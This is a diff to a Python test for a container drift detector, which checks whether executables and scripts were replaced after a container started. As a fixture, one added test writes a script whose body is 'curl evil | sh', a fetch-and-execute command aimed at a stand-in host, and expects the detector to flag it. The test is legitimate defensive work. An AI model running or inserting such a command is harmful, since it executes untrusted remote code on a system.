@@ -54,6 +54,16 @@ def test_verdicts(tmp_path: Path) -> None:
     assert files.drift("sha256:img", "/bin/date", 99, str(upper)).startswith("replaced after the container started (7")
     assert files.drift("sha256:img", "/usr/bin/perl", 99, str(upper)) == ""  # not changed in the upper layer
     assert files.drift("sha256:other", "/bin/date", 1) is None
+    # a script of the image: the process runs its interpreter (/proc/PID/exe is dash, of another size): the script
+    # itself is what is checked (here: not changed in the upper layer, so the image's own)
+    (tmp_path / "7").mkdir()
+    os.symlink("/usr/bin/dash", tmp_path / "7" / "exe")
+    files._indexes["sha256:img"] = {**INDEX, "usr/local/bin/job.sh": LayerFile("f", 0o100755, 17, "")}
+    assert files.drift("sha256:img", "/usr/local/bin/job.sh", 7, str(upper)) == ""
+    (upper / "usr/local/bin").mkdir(parents=True)
+    (upper / "usr/local/bin/job.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
+    os.chmod(upper / "usr/local/bin/job.sh", 0o755)
+    assert files.drift("sha256:img", "/usr/local/bin/job.sh", 7, str(upper)).startswith("replaced after")
     assert files.stats()["ready"] == ["sha256:img"] and files.stats()["failed"] == 1
 
 
